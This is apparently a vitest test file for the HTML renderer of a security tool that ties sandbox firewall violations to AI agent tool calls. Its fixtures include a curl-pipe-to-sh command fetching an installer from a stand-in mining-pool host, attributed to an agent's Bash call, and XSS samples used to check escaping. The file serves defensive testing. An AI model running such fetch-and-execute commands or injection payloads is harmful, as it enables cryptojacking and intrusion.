import { describe, expect, it } from 'vitest';
import { htmlRenderer } from '../../src/report/html.js';
import { HOSTILE_PARTS, hostileReport, sampleReport } from '../helpers/report.js';

const render = (r = sampleReport()) => htmlRenderer.render(r, { color: false });

const TAGS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'main', 'header', 'h1', 'h2', 'h3', 'p', 'small', 'div', 'section',
  'span', 'label', 'input', 'button', 'svg', 'defs', 'clippath', 'rect', 'g', 'text', 'line', 'circle', 'article', 'dl', 'dt', 'dd',
  'pre', 'code', 'ol', 'ul', 'li', 'strong', 'details', 'summary', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'footer', 'script']);
const ATTRS = new Set(['lang', 'charset', 'http-equiv', 'content', 'name', 'class', 'id', 'type', 'value', 'min', 'max', 'for', 'checked',
  'xmlns', 'viewbox', 'width', 'height', 'role', 'aria-labelledby', 'aria-live', 'data-t0', 'data-t1', 'data-t', 'data-sev', 'data-id',
  'x', 'y', 'x1', 'x2', 'y1', 'y2', 'cx', 'cy', 'r', 'rx', 'text-anchor', 'clip-path', 'tabindex', 'visibility']);

/** The page split into markup (scripts emptied), the JSON data block and the page script. */
function parts(html: string) {
  const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
  return {
    scripts,
    markup: html.replace(/(<script[^>]*>)[\s\S]*?(<\/script>)/g, '$1$2').replace(/(<style>)[\s\S]*?(<\/style>)/, '$1$2'),
    data: JSON.parse(scripts.find((s) => s[1]!.includes('application/json'))![2]!),
    js: scripts.find((s) => s[1] === '')![2]!,
  };
}

/** Every `<` in the markup opens an allowed tag with allowed, double-quoted attributes. */
function tagProblems(markup: string): string[] {
  const problems: string[] = [];
  let at = markup.indexOf('<');
  while (at !== -1) {
    const rest = markup.slice(at);
    const m = /^<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z][a-zA-Z0-9-]*(?:="[^"<>]*")?)*)\s*\/?>/.exec(rest) ?? /^<!DOCTYPE html>/.exec(rest);
    if (!m) problems.push(rest.slice(0, 60));
    else if (m[2]) {
      if (!TAGS.has(m[2].toLowerCase())) problems.push(`tag ${m[2]}`);
      for (const a of (m[3] ?? '').matchAll(/([a-zA-Z][a-zA-Z0-9-]*)(?:="([^"]*)")?/g)) {
        if (!ATTRS.has(a[1]!.toLowerCase())) problems.push(`attribute ${a[1]} on ${m[2]}`);
      }
    }
    at = markup.indexOf('<', at + 1);
  }
  return problems;
}

describe('html renderer', () => {
  it('render() writes one self-contained page with a strict CSP and nothing external', async () => {
    const html = await render();
    expect(html.startsWith('<!DOCTYPE html>\n<html lang="en">')).toBe(true);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:">`);
    // the acceptance check's own test, and the stricter: no src or href attributes at all
    expect(/(src|href)\s*=\s*["']?(https?:)?\/\//i.test(html)).toBe(false);
    expect(/\s(src|href)\s*=/i.test(html)).toBe(false);
    expect(html).not.toMatch(/<(link|img|iframe|object|embed|base|form)\b/i);
    expect(html).not.toMatch(/@import|url\((?!#)/);
    const { scripts } = parts(html);
    expect(scripts.map((s) => s[1])).toEqual([' type="application/json" id="af-data"', '']);
  });

  it('render() puts the verdict first, then the timeline, narratives, tables and errors', async () => {
    const html = await render();
    const order = ['id="verdict"', 'id="timeline-section"', 'id="incidents"', 'id="violations"', 'id="inputs"', 'id="clock"', 'id="errors"']
      .map((s) => html.indexOf(s));
    expect(order.every((i) => i > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(html).toContain('<p>3 violations, 1 attributed to an agent tool call, 2 unattributed; 1 incident (1 high).</p>');
    expect(html).toContain('<div class="k">Over-representation</div><div class="v">2.67×<small> p = 0.0123</small></div>');
  });

  it('render() draws one lane per host or sandbox and per session, marks, call bars and links', async () => {
    const html = await render();
    const svg = /<svg id="timeline"[\s\S]*?<\/svg>/.exec(html)![0];
    expect([...svg.matchAll(/<g class="lane lane-host">/g)]).toHaveLength(3);
    expect([...svg.matchAll(/<g class="lane lane-session">/g)]).toHaveLength(2);
    expect(svg).toContain('● sandbox sb-12</text>');
    // the session lane names its sandbox, tying it to the sandbox lane above
    expect(svg).toContain('▮ sb-12 · session sess-7f3c</text>');
    expect([...svg.matchAll(/<circle class="mark sev-(\w+)/g)].map((m) => m[1])).toEqual(['high', 'medium', 'low']);
    expect([...svg.matchAll(/<rect class="call chosen"/g)]).toHaveLength(1);
    expect([...svg.matchAll(/<rect class="call candidate"/g)]).toHaveLength(2);
    expect([...svg.matchAll(/<line class="link sev-high" data-sev="high" data-t0="(\d+)" data-t1="(\d+)"/g)].map((m) => [m[1], m[2]]))
      .toEqual([[String(Date.parse('2024-05-01T10:00:01.250Z')), String(Date.parse('2024-05-01T10:00:01.250Z'))]]);
    expect(svg).toMatch(/<text class="tick-label"[^>]*>2024-05-01 10:00:00<\/text>/);
  });

  it('render() narrates the incident with its tool call, command, evidence and reasons', async () => {
    const html = await render();
    const incident = /<article class="incident sev-border-high" id="incident-I1">[\s\S]*?<\/article>/.exec(html)![0];
    expect(incident).toContain('<h3><span class="badge sev-high">HIGH</span> I1 · Mining pool connection after curl | sh</h3>');
    expect(incident).toContain('<dt>Tool call</dt><dd><code>toolu_01A9xQ</code> (Bash) in session <code>sess-7f3c</code></dd>');
    expect(incident).toContain('<dt>Transcript</dt><dd><code>logs/agent/claude.jsonl:42</code></dd>');
    expect(incident).toContain('<pre class="cmd"><code>curl -s http://pool.minexmr.example:3333/install.sh | sh</code></pre>');
    expect(incident).toContain('<dt>Ran in</dt><dd>sandbox sb-12</dd>');
    expect(incident).toContain('<p>1 violation(s), 2024-05-01T10:00:01.250Z; confidence 0.91.</p>');
    expect(incident).toContain('<p class="meta">Rules: <code>net.mining-pool</code> Connection to a cryptocurrency mining pool</p>');
    expect(incident).toContain('<li>the command names pool.minexmr.example, the connection&#39;s destination</li>');
    expect(incident).toMatch(/<tr id="v-V1" data-sev="high"><td class="nowrap"><span class="badge sev-high">HIGH<\/span> <strong>V1<\/strong><\/td>/);
    expect(incident).toContain('<td><code>logs/fw/kern.log:17</code><div class="muted">iptables on sb-12</div></td>');
    expect(incident).toContain('<div class="muted">destination NL · AS64500 Example Hosting BV</div>');
    expect(incident).toContain('1 other candidate call(s)');
    expect(html).toContain('<td class="nowrap">V3</td>');
    expect(html).toContain(`<code class="hash">${'b'.repeat(64)}</code>`);
    expect(html).toContain('<li><code>logs/fw/kern.log:9</code>: truncated record</li>');
    expect(html).toContain('<td><code>logs/fw/kern.log</code></td><td class="num">-40000</td><td>estimated</td>');
  });

  it('render() states evidence shared by an incident\'s violations once, and keeps each one\'s own', async () => {
    const report = sampleReport();
    const v1 = report.violations[0]!;
    const a = v1.attribution!;
    const timing = (n: number) => `the call started ${n} s before the connection`;
    const shared = a.reasons.slice(1);
    const twin = { ...v1, id: 'V9', time: '2024-05-01T10:00:31.250Z', ref: { path: 'logs/fw/kern.log', line: 18 },
      attribution: { ...a, deltaMs: 31_250, confidence: 0.8, reasons: [timing(31), ...shared] } };
    report.violations = [{ ...v1, attribution: { ...a, reasons: [timing(1), ...shared] } }, twin];
    report.incidents[0] = { ...report.incidents[0]!, violations: ['V1', 'V9'], count: 2, last: twin.time };
    const html = await render(report);
    const incident = /<article class="incident sev-border-high" id="incident-I1">[\s\S]*?<\/article>/.exec(html)![0];
    expect(incident).toContain('<p class="why">Evidence shared by all 2 violations:</p>');
    expect([...incident.matchAll(/the session runs in sandbox sb-12/g)]).toHaveLength(1);
    expect(incident).toContain(`<li>${timing(1)}</li>`);
    expect(incident).toContain(`<li>${timing(31)}</li>`);
    expect(incident).toContain('confidence 0.80–0.91.');
  });

  it('render() lists external addresses with their GeoIP owners', async () => {
    const html = await render();
    expect(html).toContain('<section id="external"><h2>External addresses (GeoIP)</h2>');
    expect(html).toContain('<tr><td><code>203.0.113.9</code></td><td>NL</td><td class="nowrap">AS64500</td><td>Example Hosting BV</td><td>destination</td><td>V1</td></tr>');
    const none = sampleReport();
    delete none.violations[0]!.dst!.country;
    delete none.violations[0]!.dst!.asn;
    delete none.violations[0]!.dst!.org;
    expect(await render(none)).not.toContain('id="external"');
  });

  it('render() gives the script its data as JSON and the script never writes HTML', async () => {
    const { data, js } = parts(await render());
    expect(data.violations.map((v: { id: string }) => v.id)).toEqual(['V1', 'V2', 'V3']);
    expect(data.violations[0].call).toBe('toolu_01A9xQ (Bash) in session sess-7f3c');
    expect(data.t1).toBeGreaterThan(data.t0);
    expect(js).toContain('textContent');
    expect(js).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|setTimeout\(['"]/);
  });

  it('render() is deterministic', async () => {
    expect(await render(hostileReport())).toBe(await render(hostileReport()));
  });

  it('render() makes hostile text inert everywhere: no tags, attributes, controls or script breakout', async () => {
    const html = await render(hostileReport());
    // eslint-disable-next-line no-control-regex
    expect(/[\u0000-\u0009\u000b-\u001f\u007f]/.test(html)).toBe(false);
    expect(html).not.toContain('<script>alert');
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<[^>]*\sonerror\s*=/i);
    expect(/(src|href)\s*=\s*["']?(https?:)?\/\//i.test(html)).toBe(false);
    expect([...html.matchAll(/<\/script>/g)]).toHaveLength(2);
    const { markup, data, scripts } = parts(html);
    expect(tagProblems(markup)).toEqual([]);
    expect(scripts[0]![2]).not.toMatch(/[<>]/);
    // the text is still there for the reader, escaped
    expect(markup).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src&#61;x onerror&#61;alert(1)&gt;');
    expect(data.violations[0].what).toContain('<script>alert(1)</script>');
    expect(data.violations[0].what).not.toMatch(/[\u001b\u0007\n]/);
    expect(HOSTILE_PARTS.length).toBeGreaterThan(10);
  });

  it('render() copes with a report without violations', async () => {
    const report = sampleReport();
    report.violations = [];
    report.incidents = [];
    const html = await render(report);
    expect(html).toContain('Nothing to draw');
    expect(html).toContain('<p>No violations.</p>');
    expect(tagProblems(parts(html).markup)).toEqual([]);
  });
});
